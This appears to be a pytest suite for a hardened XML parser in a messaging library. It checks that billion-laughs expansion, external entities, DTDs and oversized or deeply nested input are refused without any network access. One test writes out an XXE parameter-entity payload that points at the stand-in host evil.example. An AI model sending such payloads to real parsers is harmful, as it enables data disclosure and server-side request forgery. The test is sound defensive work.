from __future__ import annotations

import socket

import pytest

from messaging.errors import InvalidMessage
from messaging.safexml import XmlLimits, local_name, parse_xml
from tests.messaging.kinds.corpus_cases import BILLION_LAUGHS, DEEP, EXTERNAL_DTD, XXE


def code_of(data: bytes, limits: XmlLimits | None = None) -> str:
    with pytest.raises(InvalidMessage) as caught:
        parse_xml(data, limits)
    return caught.value.code


def test_plain_namespaced_xml_parses():
    root = parse_xml(b'<?xml version="1.0"?><a xmlns="urn:x"><b>t</b></a>')
    assert local_name(root.tag) == "a"
    assert root.findtext("{urn:x}b") == "t"


def test_the_billion_laughs_is_refused_at_its_first_entity():
    assert code_of(BILLION_LAUGHS) == "xml-entity"


def test_external_entities_and_external_dtds_are_refused_without_any_network(monkeypatch):
    def no_network(*_args: object, **_kw: object) -> None:
        raise AssertionError("the parser tried to open a connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    assert code_of(XXE) == "xml-external-entity"
    assert code_of(EXTERNAL_DTD) == "xml-external-entity"
    parameter = b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><a/>'
    assert code_of(parameter) == "xml-external-entity"


def test_any_dtd_is_refused_even_a_harmless_one():
    assert code_of(b"<!DOCTYPE a><a/>") == "xml-dtd"
    assert code_of(b"<!DOCTYPE a [<!ELEMENT a ANY>]><a/>") == "xml-dtd"


def test_undeclared_entities_and_broken_xml_are_malformed():
    assert code_of(b"<a>&b;</a>") == "xml-malformed"
    assert code_of(b"<a><b></a>") == "xml-malformed"
    assert code_of(b"") == "xml-malformed"
    assert code_of(b"<a/><b/>") == "xml-malformed"


def test_size_depth_and_element_limits_are_parameters():
    assert code_of(DEEP) == "xml-too-deep"
    assert parse_xml(DEEP, XmlLimits(max_depth=1000)) is not None
    assert code_of(b"<a>" + b"<b/>" * 50 + b"</a>", XmlLimits(max_elements=20)) == (
        "xml-too-many-elements"
    )
    assert code_of(b"<a/>" + b" " * 100, XmlLimits(max_bytes=50)) == "xml-too-large"
